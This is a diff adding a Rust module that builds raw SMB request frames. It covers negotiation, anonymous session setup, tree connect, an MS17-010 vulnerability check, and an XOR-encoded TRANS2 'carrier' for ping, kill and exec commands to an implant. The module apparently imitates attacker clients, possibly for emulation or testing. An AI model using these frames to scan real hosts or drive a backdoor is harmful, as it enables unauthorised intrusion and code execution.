@@ -1,0 +1,241 @@
+//! The requests' layouts: each function writes one whole NBSS frame into an empty buffer.
+
+use super::implant::append_xored;
+
+/// Commands that the visitors send.
+mod command {
+    pub(super) const TRANSACTION: u8 = 0x25;
+    pub(super) const TRANSACTION2: u8 = 0x32;
+    pub(super) const TREE_DISCONNECT: u8 = 0x71;
+    pub(super) const NEGOTIATE: u8 = 0x72;
+    pub(super) const SESSION_SETUP_ANDX: u8 = 0x73;
+    pub(super) const LOGOFF_ANDX: u8 = 0x74;
+    pub(super) const TREE_CONNECT_ANDX: u8 = 0x75;
+}
+
+/// Where in an exec frame the chunk's bytes begin: NetBIOS header, SMB header, 15 words, count, pad,
+/// 12 parameter bytes.
+pub const EXEC_DATA_AT: usize = 4 + 78;
+
+/// The SMB header's fields that a client chooses.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Header {
+    /// Flags.
+    pub flags: u8,
+    /// Flags2.
+    pub flags2: u16,
+    /// Tree.
+    pub tid: u16,
+    /// Process id, low word.
+    pub pid: u16,
+    /// User.
+    pub uid: u16,
+    /// Multiplex id.
+    pub mid: u16,
+}
+
+fn len16(len: usize) -> u16 {
+    u16::try_from(len).unwrap_or(u16::MAX)
+}
+
+fn begin(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u16]) {
+    frame.clear();
+    frame.extend_from_slice(b"\0\0\0\0\xffSMB");
+    frame.push(command);
+    frame.extend_from_slice(&[0; 4]);
+    frame.push(header.flags);
+    frame.extend_from_slice(&header.flags2.to_le_bytes());
+    frame.extend_from_slice(&[0; 12]);
+    for word in [header.tid, header.pid, header.uid, header.mid] {
+        frame.extend_from_slice(&word.to_le_bytes());
+    }
+    frame.push(u8::try_from(words.len()).unwrap_or(u8::MAX));
+    for word in words {
+        frame.extend_from_slice(&word.to_le_bytes());
+    }
+}
+
+/// Writes the NBSS length of what stands in `frame`: 24 bits, big-endian.
+pub fn finish(frame: &mut [u8]) {
+    let len = u32::try_from(frame.len().saturating_sub(4)).unwrap_or(u32::MAX);
+    let [_, a, b, c] = len.to_be_bytes();
+    if let Some(head) = frame.first_chunk_mut::<4>() {
+        *head = [0, a, b, c];
+    }
+}
+
+fn finish_with(frame: &mut Vec<u8>, bytes: &[u8]) {
+    frame.extend_from_slice(&len16(bytes.len()).to_le_bytes());
+    frame.extend_from_slice(bytes);
+    finish(frame);
+}
+
+/// A text as this client writes it, with its terminator.
+fn append_text(bytes: &mut Vec<u8>, text: &str, unicode: bool) {
+    if unicode {
+        bytes.extend(text.encode_utf16().chain([0]).flat_map(u16::to_le_bytes));
+    } else {
+        bytes.extend_from_slice(text.as_bytes());
+        bytes.push(0);
+    }
+}
+
+const fn low(word: u32) -> u16 {
+    let [a, b, _, _] = word.to_le_bytes();
+    u16::from_le_bytes([a, b])
+}
+
+const fn high(word: u32) -> u16 {
+    let [_, _, c, d] = word.to_le_bytes();
+    u16::from_le_bytes([c, d])
+}
+
+/// NEGOTIATE with these dialects.
+pub fn negotiate(frame: &mut Vec<u8>, header: Header, dialects: &[&str]) {
+    let mut bytes = Vec::new();
+    for dialect in dialects {
+        bytes.push(2);
+        append_text(&mut bytes, dialect, false);
+    }
+    begin(frame, header, command::NEGOTIATE, &[]);
+    finish_with(frame, &bytes);
+}
+
+/// The words and texts of an anonymous SESSION_SETUP_ANDX with 13 words.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Setup {
+    /// AndXOffset: 0 or the message's own length.
+    pub andx_offset: u16,
+    /// MaxBufferSize.
+    pub max_buffer: u16,
+    /// MaxMpxCount.
+    pub max_mpx: u16,
+    /// VcNumber.
+    pub vc: u16,
+    /// Length of the (zero) OEM password.
+    pub password_len: u16,
+    /// Capabilities.
+    pub capabilities: u32,
+    /// PrimaryDomain.
+    pub domain: &'static str,
+    /// Whether texts are UTF-16.
+    pub unicode: bool,
+}
+
+/// SESSION_SETUP_ANDX, anonymous, without extended security.
+pub fn session_setup(frame: &mut Vec<u8>, header: Header, setup: &Setup) {
+    let mut bytes = vec![0; usize::from(setup.password_len)];
+    for text in ["", setup.domain, "Windows 2000 2195", "Windows 2000 5.0"] {
+        append_text(&mut bytes, text, setup.unicode);
+    }
+    let words = [
+        0x00ff,
+        setup.andx_offset,
+        setup.max_buffer,
+        setup.max_mpx,
+        setup.vc,
+        0,
+        0,
+        setup.password_len,
+        0,
+        0,
+        0,
+        low(setup.capabilities),
+        high(setup.capabilities),
+    ];
+    begin(frame, header, command::SESSION_SETUP_ANDX, &words);
+    finish_with(frame, &bytes);
+}
+
+/// A TREE_CONNECT_ANDX's variable parts.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Tree<'a> {
+    /// AndXOffset.
+    pub andx_offset: u16,
+    /// Flags: 0x0008 asks for the extended response.
+    pub flags: u16,
+    /// The path.
+    pub path: &'a str,
+    /// Whether the path is UTF-16.
+    pub unicode: bool,
+    /// A byte count that stays what it was in the sender's template, whatever the path's length.
+    pub byte_count: Option<u16>,
+    /// Bytes after the message that the sender's template left behind.
+    pub stale: &'a [u8],
+}
+
+/// TREE_CONNECT_ANDX for any service.
+pub fn tree_connect(frame: &mut Vec<u8>, header: Header, tree: &Tree<'_>) {
+    let mut bytes = vec![0];
+    append_text(&mut bytes, tree.path, tree.unicode);
+    append_text(&mut bytes, "?????", false);
+    begin(frame, header, command::TREE_CONNECT_ANDX, &[0x00ff, tree.andx_offset, tree.flags, 1]);
+    let count = tree.byte_count.unwrap_or_else(|| len16(bytes.len()));
+    frame.extend_from_slice(&count.to_le_bytes());
+    frame.extend_from_slice(&bytes);
+    frame.extend_from_slice(tree.stale);
+    finish(frame);
+}
+
+/// TRANSACTION PeekNamedPipe on FID 0: the check for MS17-010.
+pub fn peek(frame: &mut Vec<u8>, header: Header) {
+    let words = [0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0x4a, 2, 0x23, 0];
+    begin(frame, header, command::TRANSACTION, &words);
+    finish_with(frame, b"\\PIPE\\\0");
+}
+
+/// TREE_DISCONNECT.
+pub fn tree_disconnect(frame: &mut Vec<u8>, header: Header) {
+    begin(frame, header, command::TREE_DISCONNECT, &[]);
+    finish_with(frame, &[]);
+}
+
+/// LOGOFF_ANDX.
+pub fn logoff(frame: &mut Vec<u8>, header: Header) {
+    begin(frame, header, command::LOGOFF_ANDX, &[0x00ff, 0]);
+    finish_with(frame, &[]);
+}
+
+/// A TRANS2 SESSION_SETUP, the implant's carrier.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Carrier<'a> {
+    /// Its byte sum is the opcode.
+    pub timeout: u32,
+    /// The 12 parameter bytes as they go on the wire.
+    pub params: [u8; 12],
+    /// The chunk, not yet encoded.
+    pub data: &'a [u8],
+    /// What `data` is XORed with.
+    pub key: u32,
+    /// DataCount, where it differs from `data`'s length.
+    pub data_count: Option<u16>,
+}
+
+impl Carrier<'_> {
+    /// A request without a chunk, its parameters zero: ping and kill.
+    pub const fn bare(timeout: u32) -> Self {
+        Self { timeout, params: [0; 12], data: &[], key: 0, data_count: None }
+    }
+}
+
+/// The 12 parameter bytes of an exec: {total, chunk, offset}, each XOR key.
+pub fn exec_params(total: u32, chunk: u32, offset: u32, key: u32) -> [u8; 12] {
+    let mut params = [0; 12];
+    for (slot, value) in params.as_chunks_mut::<4>().0.iter_mut().zip([total, chunk, offset]) {
+        *slot = (value ^ key).to_le_bytes();
+    }
+    params
+}
+
+/// TRANSACTION2 SESSION_SETUP with 15 words, parameters at 66, data at 78.
+pub fn carrier(frame: &mut Vec<u8>, header: Header, carrier: &Carrier<'_>) {
+    let count = carrier.data_count.unwrap_or_else(|| len16(carrier.data.len()));
+    let (timeout_low, timeout_high) = (low(carrier.timeout), high(carrier.timeout));
+    let words = [12, count, 1, 0, 0, 0, timeout_low, timeout_high, 0, 12, 66, count, 78, 1, 0x000e];
+    begin(frame, header, command::TRANSACTION2, &words);
+    frame.extend_from_slice(&len16(carrier.data.len()).saturating_add(13).to_le_bytes());
+    frame.push(0);
+    frame.extend_from_slice(&carrier.params);
+    append_xored(frame, carrier.data, carrier.key);
+    finish(frame);
+}
